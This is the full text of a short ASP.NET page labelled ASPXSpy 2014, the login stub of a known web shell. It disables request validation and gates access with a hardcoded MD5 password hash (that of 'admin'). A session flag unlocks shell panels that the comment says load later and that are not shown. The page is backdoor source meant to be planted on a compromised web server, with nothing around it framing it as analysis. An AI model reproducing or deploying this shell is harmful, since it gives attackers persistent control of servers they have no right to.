<%@ Page Language="C#" validateRequest="false" %>
<script runat="server">
    // ASPXSpy 2014 - login stub, panels loaded later
    public string Password = "21232f297a57a5a743894a0e4a801fc3";
    protected void Login_Click(object sender, EventArgs e)
    {
        if (FormsAuthentication.HashPasswordForStoringInConfigFile(PassText.Text, "MD5").ToLower() == Password) Session["ASPXSpy"] = "BIN";
    }
</script>
<html><head><title>ASPXSpy</title></head><body><form runat="server">
<asp:TextBox ID="PassText" runat="server" TextMode="Password" /><asp:Button runat="server" Text="Login" OnClick="Login_Click" />
</form></body></html>
